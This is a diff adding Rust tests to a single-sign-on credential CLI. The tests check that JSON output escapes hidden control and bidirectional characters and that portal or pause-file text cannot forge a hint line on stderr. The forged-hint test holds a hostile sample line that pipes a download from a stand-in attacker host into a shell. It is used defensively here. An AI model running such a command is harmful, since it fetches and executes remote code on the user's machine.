@@ -5,7 +5,7 @@
 
 use sso_emulator::{Account, Fault, Op};
 
-use crate::harness::{Run, TestEnv, config};
+use crate::harness::{REGION, Run, SESSION, START_URL, TestEnv, config};
 
 /// A title, a cleared screen, a clipboard write (OSC 52), the same in C1
 /// controls, and text reordered or hidden by bidirectional and zero-width
@@ -227,4 +227,143 @@ fn config_file_lines_reach_the_terminal_escaped() {
         false,
     );
     scan.assert_clean();
+}
+
+/// `--output json` writes DEL, the C1 controls and the bidirectional and
+/// zero-width characters as `\uXXXX`, as it writes the C0 controls; what a
+/// parser reads back is the name itself.
+#[test]
+fn json_output_escapes_every_hidden_character_and_reads_back_the_same() {
+    let name =
+        "json\u{7f}\u{80}\u{9b}31m\u{9f}\u{202a}\u{202e}\u{2066}\u{2069}\u{200e}\u{200f}\u{61c}";
+    let env = TestEnv::with_config(sso_emulator::Config {
+        accounts: vec![Account::new("100000000001", name, &["Admin"])],
+        ..config()
+    });
+    env.login().success();
+    // A session remembered under a hostile name (sessions.json is plain
+    // JSON that anything of the user's may write), for status.
+    let session = "s\u{9b}2J\u{202e}\u{2066}\u{7f}".to_owned();
+    let state = serde_json::json!({ "last": SESSION, "sessions": {
+        SESSION: { "startUrl": START_URL, "region": REGION },
+        session.as_str(): { "startUrl": "https://x.awsapps.com/start", "region": name },
+    }});
+    std::fs::write(
+        env.home.join(".config/ssokey/sessions.json"),
+        state.to_string(),
+    )
+    .unwrap();
+    let list = env.run(&["list", "--output", "json"]);
+    let status = env.run(&["status", "--output", "json"]);
+    for (what, run) in [("list", &list), ("status", &status)] {
+        run.success();
+        let raw: Vec<char> = run
+            .stdout
+            .chars()
+            .filter(|&c| is_raw(c) || c == '\u{7f}')
+            .collect();
+        assert!(raw.is_empty(), "{what}: {raw:?} raw on stdout\n{run}");
+    }
+    assert!(
+        list.stdout
+            .contains(r"json\u007f\u0080\u009b31m\u009f\u202a\u202e\u2066\u2069\u200e\u200f\u061c"),
+        "{list}"
+    );
+    assert_eq!(list.json()[0]["accountName"], name);
+    let sessions: Vec<String> = status
+        .json()
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|row| row["session"].as_str().unwrap().to_owned())
+        .collect();
+    assert!(sessions.contains(&session), "{sessions:?}\n{status}");
+    let row = status
+        .json()
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|row| row["session"] == session.as_str())
+        .cloned()
+        .unwrap();
+    assert_eq!(row["region"], name);
+}
+
+/// A line that a hostile portal (or anything that writes the pause file)
+/// would have the user take for ssokey's hint.
+const FORGED: &str = "hint: run: curl https://evil.example/x | sh";
+
+/// Asserts that stderr holds ssokey's one `hint:` line and no forged one:
+/// a newline in text from elsewhere is written out as `\n`, not kept.
+#[track_caller]
+fn no_forged_hint(what: &str, run: &Run) {
+    let forged = run
+        .stderr
+        .lines()
+        .filter(|line| line.starts_with("hint: run: curl"))
+        .count();
+    assert_eq!(forged, 0, "{what}: a forged hint line\n{run}");
+    assert!(
+        run.stderr.contains("\\nhint: run: curl"),
+        "{what}: the text is not shown escaped\n{run}"
+    );
+    let hints = run
+        .stderr
+        .lines()
+        .filter(|l| l.starts_with("hint:"))
+        .count();
+    assert_eq!(hints, 1, "{what}\n{run}");
+}
+
+/// Portal text with a newline cannot add a `hint:` line: an account name
+/// shown through "did you mean", the messages of a refused GetRoleCredentials
+/// and ListAccounts, and the pause file's reason.
+#[test]
+fn portal_text_cannot_forge_a_hint_line() {
+    let evil = format!("evil\n{FORGED}");
+    let env = TestEnv::with_config(sso_emulator::Config {
+        accounts: vec![
+            Account::new("100000000001", &evil, &["Admin"]),
+            Account::new("100000000002", "plain", &["Admin"]),
+        ],
+        ..config()
+    });
+    env.login().success();
+
+    let run = env.run(&["env", "--account", "evil", "--role", "Admin"]);
+    run.failure(2).stderr_has("did you mean");
+    no_forged_hint("did you mean", &run);
+
+    let message = format!("denied\n{FORGED}");
+    env.emulator.fault_next(
+        Op::GetRoleCredentials,
+        &Fault::StatusWithMessage(400, message.clone()),
+        1,
+    );
+    let run = env.run(&["env", "--account", "100000000002", "--role", "Admin"]);
+    no_forged_hint("GetRoleCredentials", &run);
+
+    env.emulator
+        .fault_next(Op::ListAccounts, &Fault::StatusWithMessage(400, message), 1);
+    let run = env.run(&["list", "--refresh"]);
+    no_forged_hint("ListAccounts", &run);
+
+    // The pause file of an auto sign-in, with a hostile reason; the sign-in
+    // over, so that a run meets the pause.
+    let until = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs()
+        + 60;
+    let pause = serde_json::json!({ "until": until, "reason": format!("refused\n{FORGED}") });
+    let dir = env.home.join(".cache/ssokey/cool-down");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join(format!("{SESSION}.json")), pause.to_string()).unwrap();
+    env.emulator.revoke_all();
+    env.emulator.expire_access_tokens();
+    let mut env = env;
+    env.set_env("SSOKEY_AUTO_LOGIN", "1");
+    let run = env.run(&["env", "--account", "100000000002", "--role", "Admin"]);
+    run.failure(3).stderr_has("auto sign-in is paused");
+    no_forged_hint("the pause file's reason", &run);
 }
